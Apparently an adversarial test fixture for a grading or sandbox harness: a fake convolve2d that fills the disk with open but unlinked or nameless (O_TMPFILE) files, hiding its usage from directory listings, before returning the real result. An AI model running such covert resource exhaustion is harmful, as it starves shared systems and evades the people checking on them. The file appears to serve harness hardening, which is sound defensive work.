# mypy: ignore-errors
"""Fills the disk with files that it has removed, or that never had a name, and keeps open; right once it has.

Attacks: convolve2d
Earns: nothing
Process level: cannot stop it
"""

import os
import time

from chapter04_convolution import convolve2d as honest

FULL = 60 << 20
kept = []


def removed(number):
    file = open(f"{number}", "xb")
    os.unlink(f"{number}")
    return file


def nameless(_number):
    return open(os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600), "wb")


def convolve2d(image, kernel):
    for make in (removed, nameless):
        for number in range(4):
            try:
                kept.append(make(number))
                kept[-1].write(bytes(FULL))
                kept[-1].flush()
            except OSError:
                break
    time.sleep(0.3)  # for whoever looks
    return honest(image, kernel) if sum(os.fstat(file.fileno()).st_size for file in kept) > 2 * FULL else None
